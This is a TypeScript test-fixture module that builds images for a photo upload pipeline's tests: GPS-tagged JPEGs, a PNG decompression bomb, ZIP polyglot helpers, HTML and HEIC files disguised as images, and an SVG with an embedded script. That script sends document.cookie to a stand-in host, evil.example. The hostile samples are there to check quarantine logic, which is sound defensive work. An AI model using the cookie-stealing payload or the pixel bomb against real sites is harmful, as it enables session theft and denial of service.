/**
 * Images for the photo tests and benchmark, generated in memory: EXIF with GPS and orientation
 * added to a real or generated JPEG, and the hostile kinds the pipeline must quarantine (a pixel
 * bomb, a truncated JPEG, HTML or ZIP declared as JPEG, a JPEG+ZIP polyglot, SVG, HEIC).
 */
import { createDeflate, crc32 } from 'node:zlib';
import * as piexif from 'piexifjs';
import sharp from 'sharp';

/** A village in Guizhou: a location that must never reach a donor. */
export const secretLocation = { latitude: 26.5783, longitude: 106.7135 };

function dms(value: number): Array<[number, number]> {
  const degrees = Math.floor(value);
  const minutes = Math.floor((value - degrees) * 60);
  const seconds = Math.round(((value - degrees) * 60 - minutes) * 60 * 100);
  return [
    [degrees, 1],
    [minutes, 1],
    [seconds, 100],
  ];
}

/**
 * A photo-like image: blurred noise over a gradient, so that encoders and resizers work as on a
 * photograph; a JPEG is saved as a camera would (q92).
 */
export async function photoLike(
  width: number,
  height: number,
  format: 'jpeg' | 'png' | 'webp' = 'jpeg',
  /** The same pixels on every run (libvips' own noise differs each time). */
  seed?: number,
): Promise<Buffer> {
  const gradient = Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}"><defs><linearGradient id="g" x2="1" y2="1"><stop offset="0" stop-color="#3a6b35"/><stop offset="1" stop-color="#e3c565"/></linearGradient></defs><rect width="100%" height="100%" fill="url(#g)"/></svg>`,
  );
  const noise = await (
    seed === undefined
      ? sharp({
          create: {
            width,
            height,
            channels: 3,
            background: '#808080',
            noise: { type: 'gaussian', mean: 128, sigma: 40 },
          },
        })
      : sharp(seededNoise(width * height * 3, seed), { raw: { width, height, channels: 3 } })
  )
    .blur(1.2)
    .png({ compressionLevel: 0 })
    .toBuffer();
  const image = sharp(gradient).composite([{ input: noise, blend: 'soft-light' }]);
  return format === 'jpeg'
    ? image.jpeg({ quality: 92 }).toBuffer()
    : image.toFormat(format).toBuffer();
}

/** Roughly gaussian bytes around 128 (sum of four uniform draws), from a fixed LCG. */
function seededNoise(length: number, seed: number): Buffer {
  const bytes = Buffer.alloc(length);
  let state = seed >>> 0;
  const next = () => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return state >>> 24;
  };
  for (let i = 0; i < length; i++) {
    const sum = next() + next() + next() + next();
    bytes[i] = Math.max(0, Math.min(255, Math.round(128 + ((sum - 510) * 40) / 147)));
  }
  return bytes;
}

/** The JPEG with camera EXIF added: GPS position, a model name, and the given orientation. */
export function withGpsAndOrientation(jpeg: Buffer, orientation: number): Buffer {
  const exif = piexif.dump({
    '0th': { [piexif.ImageIFD.Orientation]: orientation, [piexif.ImageIFD.Make]: 'Xiaomi' },
    Exif: { [piexif.ExifIFD.DateTimeOriginal]: '2026:03:01 10:20:30' },
    GPS: {
      [piexif.GPSIFD.GPSLatitudeRef]: 'N',
      [piexif.GPSIFD.GPSLatitude]: dms(secretLocation.latitude),
      [piexif.GPSIFD.GPSLongitudeRef]: 'E',
      [piexif.GPSIFD.GPSLongitude]: dms(secretLocation.longitude),
    },
  });
  return Buffer.from(piexif.insert(exif, jpeg.toString('latin1')), 'latin1');
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/**
 * A valid greyscale PNG of `size`×`size` pixels of one colour: a few hundred KB on disk,
 * size² bytes once decoded. Rows are deflated as a stream, never held in memory together.
 */
export async function pngBomb(size = 20000): Promise<Buffer> {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(size, 0);
  header.writeUInt32BE(size, 4);
  header.writeUInt8(8, 8); // bit depth
  header.writeUInt8(0, 9); // greyscale
  const deflate = createDeflate({ level: 9 });
  const parts: Buffer[] = [];
  deflate.on('data', (part: Buffer) => parts.push(part));
  const done = new Promise((resolve) => deflate.on('end', resolve));
  const rows = Buffer.alloc((size + 1) * 100); // 100 rows: filter byte 0, then black pixels
  for (let written = 0; written < size; written += 100) {
    if (!deflate.write(rows)) await new Promise((resolve) => deflate.once('drain', resolve));
  }
  deflate.end();
  await done;
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    pngChunk('IHDR', header),
    pngChunk('IDAT', Buffer.concat(parts)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A ZIP archive (stored, no compression) holding one file. */
export function zipOf(name: string, content: Buffer): Buffer {
  const fileName = Buffer.from(name, 'utf8');
  const crc = crc32(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(fileName.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(fileName.length, 28);
  const centralOffset = local.length + fileName.length + content.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + fileName.length, 12);
  end.writeUInt32LE(centralOffset, 16);
  return Buffer.concat([local, fileName, content, central, fileName, end]);
}

export const svgWithScript = Buffer.from(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">' +
    '<script>fetch("https://evil.example/?c="+document.cookie)</script>' +
    '<rect width="100" height="100" fill="red"/></svg>',
);

export const htmlPage = Buffer.from(
  '<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>',
);

/** The start of an iPhone HEIC file: an ISO-BMFF `ftyp` box with the heic brand. */
export const heicHeader = Buffer.concat([
  Buffer.from([0, 0, 0, 0x18]),
  Buffer.from('ftypheic', 'latin1'),
  Buffer.from([0, 0, 0, 0]),
  Buffer.from('mif1heic', 'latin1'),
  Buffer.from([0, 0, 0, 0x08]),
  Buffer.from('meta', 'latin1'),
  Buffer.alloc(64),
]);
